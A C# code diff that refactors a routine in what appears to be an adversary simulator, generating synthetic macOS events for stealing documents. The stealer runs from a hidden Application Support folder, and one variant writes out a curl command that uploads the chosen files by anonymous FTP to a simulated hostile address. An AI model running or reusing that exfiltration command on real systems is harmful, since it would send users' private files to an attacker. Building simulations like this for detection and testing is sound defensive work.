@@ -15,43 +15,31 @@ internal static class DocumentExfiltration
     {
         var variant = c.Rng.Next(3);
         var hidden = $"{c.Home}/Library/Application Support/.{Adversary.DisguisedName(c)}";
-        SimProcess stealer;
-        string? script = null;
-        int port;
-        switch (variant)
-        {
-            case 0:
-                script = $"{hidden}/collect.py";
-                stealer = c.Spawn(c.Launchd, Images.Python3, ["python3", script], c.Home, c.User);
-                port = c.Rng.Chance(0.5) ? 80 : 8080;
-                break;
-            case 1:
-                var binary = ExecutableImage.UnsignedAt($"{hidden}/{Adversary.PayloadName(c)}");
-                stealer = c.Spawn(c.Launchd, binary, [binary.Path], "/", c.User);
-                port = 80;
-                break;
-            default:
-                stealer = null!;
-                port = 21;
-                break;
-        }
-
         var files = PickFiles(c);
+        var port = variant switch { 0 => c.Rng.Chance(0.5) ? 80 : 8080, 1 => 80, _ => 21 };
         var peer = NetworkPeer.Address(Internet.HostileAddress(c.Rng), port);
         var protocol = Adversary.ProtocolForPort(port);
+
         SimProcess? bash = null;
         if (variant == 2)
         {
-            // curl -T uploads over FTP; curl itself opens each file it sends.
-            var scriptPath = $"{hidden}/sync.sh";
-            bash = c.Spawn(c.Launchd, Images.Bash, ["/bin/bash", scriptPath], c.Home, c.User);
+            // A LaunchAgent script hands the files to curl -T, which opens each one it uploads over FTP.
+            var syncScript = $"{hidden}/sync.sh";
+            bash = c.Spawn(c.Launchd, Images.Bash, ["/bin/bash", syncScript], c.Home, c.User);
             yield return c.Exec(bash);
             c.WaitMillis(2, 30);
-            yield return c.LoadScript(bash, scriptPath);
+            yield return c.LoadScript(bash, syncScript);
             c.WaitMillis(20, 400);
-            stealer = c.Spawn(bash, Images.Curl, ["curl", "-s", "-T", $"{{{string.Join(',', files)}}}", $"ftp://{peer.Ip}/upload/", "--user", "anonymous:"]);
         }
 
+        var script = variant == 0 ? $"{hidden}/collect.py" : null;
+        var binary = ExecutableImage.UnsignedAt($"{hidden}/{Adversary.PayloadName(c)}");
+        var stealer = variant switch
+        {
+            0 => c.Spawn(c.Launchd, Images.Python3, ["python3", script!], c.Home, c.User),
+            1 => c.Spawn(c.Launchd, binary, [binary.Path], "/", c.User),
+            _ => c.Spawn(bash!, Images.Curl, ["curl", "-s", "-T", $"{{{string.Join(',', files)}}}", $"ftp://{peer.Ip}/upload/", "--user", "anonymous:"]),
+        };
         yield return c.Exec(stealer);
         if (script is not null)
         {
